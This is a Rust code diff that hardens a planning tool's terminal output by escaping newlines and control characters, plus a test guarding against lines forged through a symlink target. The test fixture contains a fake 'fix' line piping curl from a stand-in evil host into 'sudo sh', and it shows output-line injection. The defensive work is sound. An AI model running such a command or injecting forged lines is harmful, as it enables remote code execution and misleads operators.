@@ -647,12 +647,17 @@ pub(super) fn without_facts(plan: &Plan) -> Plan {
     }
 }
 
-/// `plan` with every string made safe for a terminal ([`crate::text::terminal_text`]).
+/// `plan` with every string made safe for a terminal, and on one line: shown
+/// [`crate::text::escape`]d, so a newline in a node's symlink target, in evidence or in a
+/// host name cannot start a line that reads as the plan's own (a forged `fix:` or finding).
+/// Only what is shown over several lines by design keeps its newlines: file contents,
+/// which the diff frames line by line ([`crate::text::terminal_text`]), and notes, each of
+/// their lines escaped.
 pub(super) fn terminal_safe(plan: &Plan) -> Plan {
     fn walk(value: &mut serde_json::Value) {
         match value {
             serde_json::Value::String(s) => {
-                if let std::borrow::Cow::Owned(safe) = crate::text::terminal_text(s) {
+                if let std::borrow::Cow::Owned(safe) = crate::text::escape(s) {
                     *s = safe;
                 }
             }
@@ -665,7 +670,51 @@ pub(super) fn terminal_safe(plan: &Plan) -> Plan {
         return plan.clone();
     };
     walk(&mut value);
-    serde_json::from_value(value).unwrap_or_else(|_| plan.clone())
+    let Ok(mut safe) = serde_json::from_value::<Plan>(value) else {
+        return plan.clone();
+    };
+    multi_line(&mut safe, plan);
+    safe
+}
+
+/// The texts of `plan` shown over several lines, made safe in `safe` (the same plan, every
+/// string escaped onto one line) as such.
+fn multi_line(safe: &mut Plan, plan: &Plan) {
+    let body = |s: &str| crate::text::terminal_text(s).into_owned();
+    for (safe, host) in safe.hosts.iter_mut().zip(&plan.hosts) {
+        for (safe, change) in safe.changes.iter_mut().zip(&host.changes) {
+            if let (
+                Change::WriteFile {
+                    before: safe_before,
+                    content: safe_content,
+                    ..
+                },
+                Change::WriteFile {
+                    before, content, ..
+                },
+            ) = (safe, change)
+            {
+                *safe_before = before.as_deref().map(body);
+                *safe_content = body(content);
+            }
+        }
+        let safe_notes = safe.notes.iter_mut().chain(safe.unchanged.iter_mut());
+        for (safe, note) in safe_notes.zip(host.notes.iter().chain(&host.unchanged)) {
+            safe.message = crate::text::escape_lines(&note.message);
+        }
+    }
+    for (safe, c) in safe
+        .inventory_changes
+        .iter_mut()
+        .zip(&plan.inventory_changes)
+    {
+        safe.before = c.before.as_deref().map(body);
+        safe.content = body(&c.content);
+    }
+    for (safe, c) in safe.cluster_changes.iter_mut().zip(&plan.cluster_changes) {
+        safe.before = body(&c.before);
+        safe.after = body(&c.after);
+    }
 }
 
 /// ANSI colour, or none: every styled string goes through here so `text(plan, false)`
@@ -1188,6 +1237,46 @@ resolvConf: /etc/resolv.conf → /run/systemd/resolve/resolv.conf
                 "{out}"
             );
         }
+    }
+
+    /// A symlink target read from a node with newlines in it
+    /// (`ln -s "$(printf '/run/q\n  fix: …')" /etc/resolv.conf`) once printed lines of its
+    /// own in the plan: a forged `fix:` and a finding. Every field is one line now; a
+    /// note's lines (a playbook's `note` may have several) and a diff's stay lines, each
+    /// escaped.
+    #[test]
+    fn node_text_cannot_forge_lines_of_the_plan() {
+        let forged = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh\n    \
+                      critical DNS-ALL-GOOD  nothing else to do";
+        let mut p = one_host_with(write_file("/etc/x", Some("a\n"), "b\nc\n"));
+        let h = &mut p.hosts[0];
+        h.host = format!("node1\n== {forged}");
+        h.findings = vec![FindingRecord {
+            summary: format!("resolv.conf links to {forged}"),
+            evidence: vec![format!("/etc/resolv.conf → symlink to {forged}")],
+            ..loopback_finding()
+        }];
+        h.notes = vec![Note {
+            playbook: "p".to_owned(),
+            message: "first\x1b[2J line\nsecond\r line".to_owned(),
+        }];
+        let out = text(&p, false);
+        for line in out.lines() {
+            assert!(
+                !line.trim_start().starts_with("fix:")
+                    && !line.trim_start().starts_with("critical DNS-ALL"),
+                "a forged line:\n{out}"
+            );
+        }
+        assert!(
+            out.contains("symlink to /run/q\\n            fix:  run: curl"),
+            "{out}"
+        );
+        assert!(out.contains("== node1\\n== /run/q\\n"), "{out}");
+        // A note over two lines, a diff over several.
+        assert!(out.contains("\n    p: first\\u{1b}[2J line\n"), "{out}");
+        assert!(out.contains("\n        second\\r line\n"), "{out}");
+        assert!(out.contains("\n        +b\n        +c\n"), "{out}");
     }
 
     #[test]
